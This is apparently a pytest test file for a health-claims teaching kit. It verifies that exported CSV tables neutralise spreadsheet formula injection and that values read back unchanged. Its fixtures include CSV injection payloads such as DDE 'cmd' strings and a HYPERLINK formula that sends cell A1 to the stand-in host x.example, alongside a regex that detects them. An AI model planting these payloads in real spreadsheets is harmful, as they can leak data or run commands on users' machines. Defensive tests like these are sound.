"""No cell of a table that the kit writes runs as a formula, and all is read back as it was."""

from __future__ import annotations

import csv
import io
import os
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from healthclaims.content.articles import load_article
from healthclaims.core.csv_cells import defuse, undo
from healthclaims.core.tables import read_table, write_table
from healthclaims.learner.answer_log import AnswerLog
from healthclaims.learner.entries import NOTE
from healthclaims.learner.my_data import export_logs, find_logs
from healthclaims.marking.mark_class import mark_class
from healthclaims.marking.rubric_points import Given, RubricPoints
from healthclaims.marking.rubric_reading import read_points
from healthclaims.own_text.draft import Reason, draft, with_labels
from healthclaims.own_text.store import store, store_labels
from tests.helpers.classwork import key_of
from tests.helpers.hand_ins import handed_in, log_of, models_of, zip_of
from tests.helpers.handed_in import zip_file
from tests.helpers.kit import ROOT, answer_entry
from tests.helpers.points_table import write_points

A1, A4 = "a1_who_was_studied", "a4_whole_article"
# The signs of the OWASP page on CSV injection, the wide ones of East Asian keyboards too.
SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CALL = '=HYPERLINK("http://x.example/"&A1,"go")'
FORMULAS = (
    *(f"{sign}1+1|cmd" for sign in SIGNS),
    *(f"{before}=1+1" for before in ("\t", "\r", "\n", " ", "\u00a0", "\u3000", "'", "''", ";")),
    *(
        CALL,
        f"fine;{CALL}",
        f"fine\n{CALL}",
        f"fine\r\n{CALL}",
        f"fine\t{CALL}",
        "-2+3+cmd|' /C x'!A0",
    ),
)
HARMLESS = ("", "a", "-1", "-1.5", "12", "x=1", "a-b", "o'neil", "'quoted'", "“=”", "1;2")
RUNS = re.compile("(?:^|[;\t\n])[ \u00a0\u3000]*[=+\\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]")


def runs(cell: str) -> bool:
    """Tell whether a spreadsheet might run a cell, or a part of it that semicolons split off."""
    return bool(RUNS.search(cell)) and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def check(content: bytes) -> None:
    assert not [cell for row in cells(content) for cell in row if runs(cell)]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe_and_loses_it_when_it_is_read(text: str, home: Path) -> None:
    assert runs(text) or text.startswith("'")
    assert not runs(defuse(text))
    assert undo(defuse(text)) == text
    write_table(home / "table.csv", ("a", "b"), [{"a": text, "b": "x"}])
    check((home / "table.csv").read_bytes())
    (row,) = read_table(home / "table.csv", ("a", "b"))
    assert row["a"] == re.sub(r"\r\n?", "\n", text)


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_plain_words_stay_as_they_are(text: str) -> None:
    assert defuse(text) == text
    assert undo(text) == text


@given(st.text(st.sampled_from("=+-@'; \t\n\u3000\uff1da1.") | st.characters(codec="utf-8")))
def test_whatever_is_made_harmless_can_be_made_what_it_was(text: str) -> None:
    assert undo(defuse(text)) == text
    assert not runs(defuse(text))


@pytest.mark.parametrize("text", FORMULAS)
def test_comments_on_written_answers_go_through_the_table_unchanged(home: Path, text: str) -> None:
    tasks = key_of(A4).assignment.tasks
    given_points = {
        (f"plain:{text}".strip(), tasks[0].id): Given((None,) * len(tasks[0].criteria), text)
    }
    points = RubricPoints(tasks, given_points)
    write_points(home / "points.csv", points)
    check((home / "points.csv").read_bytes())
    assert read_points(home / "points.csv", tasks) == points


@pytest.mark.parametrize("sign", [*SIGNS, "\t=", ";=", " ="])
def test_marks_and_report_of_a_class_run_nothing(home: Path, sign: str) -> None:
    os.chdir(ROOT)
    name, key = f"{sign}cmd{CALL}".replace("/", "_"), key_of(A1)
    work = zip_of(key, log_of(key, "x"), models_of(key))
    files = {
        f"{name}_12_assignsubmission_file_/{sign}1+1.zip": work,
        f"{name}_12_assignsubmission_file_/{sign}cmd.pdf": b"%PDF",
        f"{sign}1+1.txt": b"x",
    }
    canvas = {f"{sign.strip()}ann_77_88_{sign.strip()}x.zip": work}
    mark_class([zip_file(home / "m.zip", files)], A1, home / "moodle")
    mark_class([zip_file(home / "c.zip", canvas)], A1, home / "canvas")
    tables = sorted(home.glob("*/*.csv"))
    assert {path.name for path in tables} >= {"marks.csv", "report.csv"}
    for path in tables:
        check(path.read_bytes())


def test_what_gradebooks_look_students_up_by_is_never_changed(home: Path) -> None:
    os.chdir(ROOT)
    work = handed_in(key_of(A1), 1)["S0000"]
    name = "-dash, =ann"
    zip_file(home / "m.zip", {f"{name}_12_assignsubmission_file_/a.zip": work})
    mark_class([home / "m.zip"], A1, home / "marks")
    rows = cells((home / "marks/marks.csv").read_bytes())
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["ID"] == "12"
    assert row["Student"] == f"'{name}"
    assert row["Grade"].isdigit()


@pytest.mark.parametrize("text", FORMULAS)
def test_the_table_of_ones_own_answers_runs_nothing(home: Path, text: str) -> None:
    log = AnswerLog("fox", "02_animal_or_human")
    made = replace(answer_entry("semax/u40/certainty", text), kind=NOTE, text=text, quiz=text)
    assert log.add(made).ok
    with zipfile.ZipFile(export_logs(find_logs("fox"))) as file:
        content = file.read("my_answers/answers.csv")
    check(content)
    rows = cells(content)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert undo(row["note"]) == re.sub(r"\r\n?", "\n", text)


@pytest.mark.parametrize("sign", SIGNS)
def test_tables_of_a_text_of_ones_own_run_nothing_and_are_loaded(home: Path, sign: str) -> None:
    line = f"{sign}HYPERLINK may calm the rats that were studied"
    article = store(draft(f"A title\n\n{line}.\n", title=f"{sign}title"))
    unit = article.units[-1]
    why = f"{sign}SUM of all that it says here"
    label = Reason("hedged", why, unit.text[:12])
    store_labels(with_labels(article, {(unit.id, "certainty"): label}))
    for path in (home / "my_articles").glob("*/*.csv"):
        check(path.read_bytes())
    found = load_article(article.id)
    assert found.annotations[unit.id, "certainty"].why == why
    assert found.unit(unit.id).text == unit.text
